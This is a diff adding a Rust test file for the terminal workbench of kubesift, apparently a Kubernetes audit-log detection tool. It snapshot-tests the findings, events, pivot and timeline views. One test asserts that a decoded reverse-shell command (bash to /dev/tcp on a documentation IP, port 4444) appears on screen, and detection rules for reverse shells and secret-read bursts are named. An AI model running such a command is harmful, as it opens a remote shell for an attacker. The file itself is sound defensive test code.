@@ -1,0 +1,247 @@
+//! The workbench's views on the sample logs, drawn into a test backend at a fixed size:
+//! insta snapshots of each view, and style checks where colour carries meaning.
+
+#![allow(clippy::unwrap_used, clippy::expect_used)]
+
+mod common;
+
+use std::path::{Path, PathBuf};
+use std::sync::OnceLock;
+
+use common::{ks, stderr};
+use kubesift::cli::detect_cmd::{self, Tuning};
+use kubesift::index::{IndexDir, IndexReader};
+use kubesift::tui::keymap::Keymap;
+use kubesift::tui::worker::Engine;
+use kubesift::tui::{Action, App, Effect, IndexFacts};
+use ratatui::style::{Color, Modifier};
+
+const W: u16 = 160;
+const H: u16 = 40;
+
+fn repo() -> PathBuf {
+    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
+}
+
+fn sample_index() -> &'static Path {
+    static INDEX: OnceLock<(tempfile::TempDir, PathBuf)> = OnceLock::new();
+    let (_, path) = INDEX.get_or_init(|| {
+        let dir = tempfile::tempdir().unwrap();
+        let index = dir.path().join("idx");
+        let out = ks(&index)
+            .arg("index")
+            .arg(repo().join("sample-logs"))
+            .output()
+            .unwrap();
+        assert!(out.status.success(), "{}", stderr(&out));
+        (dir, index)
+    });
+    path
+}
+
+/// An app on the sample index, with its engine, as the workbench starts.
+fn start() -> (App, Engine) {
+    let dir = IndexDir::new(sample_index());
+    let findings = detect_cmd::findings(&dir, &Tuning::default(), false).unwrap();
+    let reader = IndexReader::open(&dir).unwrap();
+    let facts = IndexFacts {
+        events: reader.num_events(),
+        files: reader.manifest.complete_files().count(),
+        span: reader.time_span().unwrap(),
+    };
+    let mut app = App::new(
+        findings,
+        facts,
+        jiff::tz::TimeZone::UTC,
+        "UTC".into(),
+        (W, H),
+    );
+    let mut engine = Engine::new(reader);
+    let first = app.start();
+    settle(&mut app, &mut engine, first);
+    (app, engine)
+}
+
+/// Runs effects until the app asks for nothing more.
+fn settle(app: &mut App, engine: &mut Engine, mut eff: Option<Effect>) {
+    while let Some(Effect::Request(r)) = eff {
+        let resp = engine.handle(r);
+        eff = app.update(Action::Response(Box::new(resp)));
+    }
+}
+
+fn act(app: &mut App, engine: &mut Engine, actions: &[Action]) {
+    for a in actions {
+        let eff = app.update(a.clone());
+        settle(app, engine, eff);
+    }
+}
+
+fn screen(app: &App) -> String {
+    let s = kubesift::tui::render_to_string(app, &Keymap::builtin(), W, H);
+    s.replace(
+        &repo().canonicalize().unwrap().display().to_string(),
+        "[repo]",
+    )
+}
+
+fn select_finding(app: &mut App, engine: &mut Engine, rule: &str) {
+    let i = app.findings.iter().position(|f| f.rule_id == rule).unwrap();
+    act(app, engine, &[Action::Top]);
+    for _ in 0..i {
+        act(app, engine, &[Action::Down]);
+    }
+}
+
+#[test]
+fn detections_view() {
+    let (mut app, mut engine) = start();
+    select_finding(&mut app, &mut engine, "KS-EXEC-REVERSE-SHELL");
+    insta::assert_snapshot!(screen(&app));
+}
+
+#[test]
+fn events_view_of_everything_and_of_a_finding() {
+    let (mut app, mut engine) = start();
+    act(
+        &mut app,
+        &mut engine,
+        &[Action::ViewEvents, Action::PageDown],
+    );
+    insta::assert_snapshot!("events_all", screen(&app));
+    let (mut app, mut engine) = start();
+    select_finding(&mut app, &mut engine, "KS-SECRET-READ-BURST");
+    act(&mut app, &mut engine, &[Action::Open]);
+    insta::assert_snapshot!("events_of_finding", screen(&app));
+}
+
+#[test]
+fn detail_view_shows_the_decoded_command() {
+    let (mut app, mut engine) = start();
+    select_finding(&mut app, &mut engine, "KS-EXEC-REVERSE-SHELL");
+    act(&mut app, &mut engine, &[Action::Open, Action::Open]);
+    let s = screen(&app);
+    assert!(
+        s.contains("bash -c 'bash -i >& /dev/tcp/203.0.113.50/4444 0>&1'"),
+        "{s}"
+    );
+    insta::assert_snapshot!(s);
+}
+
+#[test]
+fn pivots_and_timeline_views() {
+    let (mut app, mut engine) = start();
+    act(&mut app, &mut engine, &[Action::ViewPivots]);
+    insta::assert_snapshot!("pivots", screen(&app));
+    act(&mut app, &mut engine, &[Action::ViewTimeline]);
+    for _ in 0..40 {
+        act(&mut app, &mut engine, &[Action::Right]);
+    }
+    insta::assert_snapshot!("timeline", screen(&app));
+}
+
+#[test]
+fn overlays_help_menu_and_input_error() {
+    let (mut app, mut engine) = start();
+    act(&mut app, &mut engine, &[Action::Help]);
+    insta::assert_snapshot!("help", screen(&app));
+    let (mut app, mut engine) = start();
+    act(
+        &mut app,
+        &mut engine,
+        &[Action::ViewEvents, Action::PivotMenu],
+    );
+    insta::assert_snapshot!("pivot_menu", screen(&app));
+    let (mut app, mut engine) = start();
+    act(&mut app, &mut engine, &[Action::ViewEvents, Action::Filter]);
+    for c in "ip:10.0.0.300".chars() {
+        act(&mut app, &mut engine, &[Action::Char(c)]);
+    }
+    act(&mut app, &mut engine, &[Action::Submit]);
+    let s = screen(&app);
+    assert!(s.contains("is not an IP address"), "{s}");
+    insta::assert_snapshot!("filter_error", s);
+}
+
+#[test]
+fn pivoting_to_an_account_and_back() {
+    let (mut app, mut engine) = start();
+    select_finding(&mut app, &mut engine, "KS-EXEC-REVERSE-SHELL");
+    act(
+        &mut app,
+        &mut engine,
+        &[Action::Open, Action::PivotMenu, Action::Open],
+    );
+    let total = app.events.total.unwrap();
+    assert!(total > 100, "every event of the account: {total}");
+    assert_eq!(
+        app.filter.chips[0].label,
+        "user:system:serviceaccount:shop:web"
+    );
+    act(&mut app, &mut engine, &[Action::PivotBack]);
+    assert_eq!(app.events.total, Some(1), "back to the finding's events");
+}
+
+#[test]
+fn colour_carries_severity_matches_and_findings() {
+    let (app, _) = start();
+    let buf = kubesift::tui::render_to_buffer(&app, &Keymap::builtin(), W, H);
+    // The severity column of the findings table starts at x = 3.
+    let find = |text: &str| -> (u16, u16) {
+        for y in 0..H {
+            let cell: String = (3..3 + text.len() as u16)
+                .map(|x| buf[(x, y)].symbol().to_owned())
+                .collect();
+            if cell == text {
+                return (3, y);
+            }
+        }
+        panic!("{text} not on screen");
+    };
+    let (x, y) = find("critical");
+    assert_eq!(buf[(x, y)].fg, Color::Red);
+    assert!(buf[(x, y)].modifier.contains(Modifier::BOLD));
+    let (x, y) = find("high ");
+    assert_eq!(buf[(x, y)].fg, Color::LightRed);
+
+    // Search matches are highlighted (magenta) and finding members marked (● in red).
+    let (mut app, mut engine) = start();
+    act(&mut app, &mut engine, &[Action::ViewEvents, Action::Search]);
+    for c in "verb:list".chars() {
+        act(&mut app, &mut engine, &[Action::Char(c)]);
+    }
+    act(&mut app, &mut engine, &[Action::Submit]);
+    let buf = kubesift::tui::render_to_buffer(&app, &Keymap::builtin(), W, H);
+    let matched_rows = (0..H)
+        .filter(|&y| {
+            (0..W).any(|x| buf[(x, y)].fg == Color::Magenta && buf[(x, y)].symbol() == "l")
+        })
+        .count();
+    assert!(matched_rows > 0, "no highlighted match");
+    act(
+        &mut app,
+        &mut engine,
+        &[Action::Cancel, Action::ViewDetections, Action::Open],
+    );
+    let buf = kubesift::tui::render_to_buffer(&app, &Keymap::builtin(), W, H);
+    let marker = (4..H)
+        .flat_map(|y| (0..W).map(move |x| (x, y)))
+        .find(|&(x, y)| buf[(x, y)].symbol() == "●")
+        .unwrap();
+    assert_eq!(buf[marker].fg, Color::Red);
+}
+
+#[test]
+fn log_strings_never_reach_the_terminal_raw() {
+    let (mut app, mut engine) = start();
+    act(&mut app, &mut engine, &[Action::ViewEvents]);
+    // A filter with an escape sequence: shown escaped in the breadcrumb.
+    act(&mut app, &mut engine, &[Action::Filter]);
+    for c in "name:\"x\u{1b}[2Jy\"".chars() {
+        act(&mut app, &mut engine, &[Action::Char(c)]);
+    }
+    act(&mut app, &mut engine, &[Action::Submit]);
+    let s = screen(&app);
+    assert!(!s.contains('\u{1b}'), "raw escape on screen");
+    assert!(s.contains("\\x1b[2J"), "{s}");
+}
